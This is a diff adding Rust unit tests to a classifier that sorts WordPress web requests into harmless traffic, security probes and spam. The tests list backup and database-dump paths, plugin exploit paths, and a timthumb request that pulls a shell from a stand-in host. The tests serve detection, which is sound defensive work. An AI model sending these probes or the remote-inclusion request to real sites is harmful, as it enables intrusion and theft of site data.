@@ -21,6 +21,31 @@ fn ordinary_pages_are_outside_the_scope() {
 }
 
 #[test]
+fn static_assets_are_outside_the_scope() {
+    // Assets are most of a site's traffic and no rule answers them, nor a browser
+    // opening the login page or the admin.
+    assert_outside_scope::<Wordpress>(&[
+        "/wp-content/themes/twentytwentyfour/style.css?ver=1.1",
+        "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
+        "/wp-content/uploads/2024/06/photo.jpg",
+        "/wp-content/plugins/woocommerce/assets/css/woocommerce.css",
+        "/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js?ver=8.9.3",
+        "/wp-content/themes/twentytwentyfour/assets/fonts/inter/Inter-VariableFont_slnt,wght.woff2",
+        "/wp-content/uploads/2024/06/photo-1024x768.webp",
+        "/wp-content/uploads/elementor/css/post-12.css?ver=1718000000",
+        "/wp-content/plugins/revslider/public/assets/js/rbtools.min.js?ver=6.6.20",
+        "/wp-includes/css/dist/block-library/style.min.css?ver=6.5.4",
+        "/wp-includes/js/wp-emoji-release.min.js?ver=6.5.4",
+        "/wp-includes/images/w-logo-blue-white-bg.png",
+        "/wp-admin/css/login.min.css?ver=6.5.4",
+        "/wp-login.php",
+        "/wp-login.php?action=lostpassword",
+        "/wp-admin/",
+        "/wp-admin/admin-ajax.php?action=heartbeat",
+    ]);
+}
+
+#[test]
 fn browser_reading_a_post_is_left_alone() {
     assert_category::<Wordpress>(get("/2024/05/hello-world/").browser(), None);
 }
@@ -280,6 +305,24 @@ fn debug_log_and_backup_archives_are_probes() {
 }
 
 #[test]
+fn dumps_archives_and_backup_folders_under_wp_content_are_probes() {
+    for path in [
+        "/wp-content/example_db.sql",
+        "/wp-content/uploads/dump.sql.gz",
+        "/wp-content/uploads/www.example.com-20240501-101010-123.wpress",
+        "/wp-content/ai1wm-backups/",
+        "/wp-content/uploads/wc-logs/fatal-errors-2024-05-01-abc123.log",
+        "/wp-content/backups-dup-lite/20240501_example_archive.zip",
+        "/wp-content/backups-dup-pro/20240501_example_installer.php.bak",
+        "/wp-content/backup-db/example_wp_20240501.zip",
+        "/wp-content/uploads/backwpup-1a2b3c-backups/2024-05-01_10-10-10_EXAMPLE.zip",
+        "/wp-content/uploads/backup-guard/sg_backup_20240501.sgbp",
+    ] {
+        assert_category::<Wordpress>(get(path).machine(SCRIPT_UA), Some(SecurityIssues));
+    }
+}
+
+#[test]
 fn installer_and_setup_scripts_are_probes() {
     assert_category::<Wordpress>(
         get("/wp-admin/setup-config.php?step=1").browser(),
@@ -287,6 +330,18 @@ fn installer_and_setup_scripts_are_probes() {
     );
     assert_category::<Wordpress>(
         post("/wordpress/wp-admin/install.php?step=2").machine(SCRIPT_UA),
+        Some(SecurityIssues),
+    );
+}
+
+#[test]
+fn maintenance_scripts_from_a_script_are_probes() {
+    assert_category::<Wordpress>(
+        get("/wp-admin/upgrade.php").machine(SCRIPT_UA),
+        Some(SecurityIssues),
+    );
+    assert_category::<Wordpress>(
+        get("/wp-admin/maint/repair.php?repair=1").machine(SCRIPT_UA),
         Some(SecurityIssues),
     );
 }
@@ -303,6 +358,29 @@ fn php_in_uploads_is_a_web_shell_probe() {
 fn file_manager_connector_exploit_is_an_attack() {
     assert_category::<Wordpress>(
         post("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php")
+            .machine(SCRIPT_UA),
+        Some(SecurityIssues),
+    );
+}
+
+#[test]
+fn plugin_exploit_paths_that_are_not_php_files_are_attacks() {
+    for path in [
+        "/wp-content/plugins/wp-file-manager/lib/files/",
+        "/wp-content/plugins/revslider/temp/update_extract/revslider/",
+        "/wp-content/plugins/mail-masta/inc/",
+        "/wp-content/plugins/formcraft/file-upload/server/php/",
+        "/wp-content/plugins/wp-symposium/server/php/",
+        "/wp-content/plugins/easy-wp-smtp/5f0e1d2c3b4a5_debug_log.txt",
+    ] {
+        assert_category::<Wordpress>(get(path).machine(SCRIPT_UA), Some(SecurityIssues));
+    }
+}
+
+#[test]
+fn timthumb_fetching_a_remote_file_is_an_attack() {
+    assert_category::<Wordpress>(
+        get("/wp-content/themes/old-theme/timthumb.php?src=http://evil.example/shell.php")
             .machine(SCRIPT_UA),
         Some(SecurityIssues),
     );
@@ -347,6 +425,14 @@ fn plugin_readme_fingerprinting_by_a_scanner_is_a_probe() {
     assert_category::<Wordpress>(
         get("/wp-content/plugins/contact-form-7/readme.txt")
             .machine("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
+        Some(SecurityIssues),
+    );
+}
+
+#[test]
+fn theme_changelog_fingerprinting_by_a_scanner_is_a_probe() {
+    assert_category::<Wordpress>(
+        get("/wp-content/themes/astra/changelog.txt").machine(SCRIPT_UA),
         Some(SecurityIssues),
     );
 }
@@ -491,6 +577,14 @@ fn comment_with_a_copied_browser_agent_and_no_origin_is_spam() {
 fn scripted_registration_is_spam() {
     assert_category::<Wordpress>(
         post("/wp-login.php?action=register").machine("curl/8.5.0"),
+        Some(SuspiciousBehaviour),
+    );
+}
+
+#[test]
+fn scripted_multisite_signup_is_spam() {
+    assert_category::<Wordpress>(
+        post("/wp-signup.php").machine("curl/8.5.0"),
         Some(SuspiciousBehaviour),
     );
 }
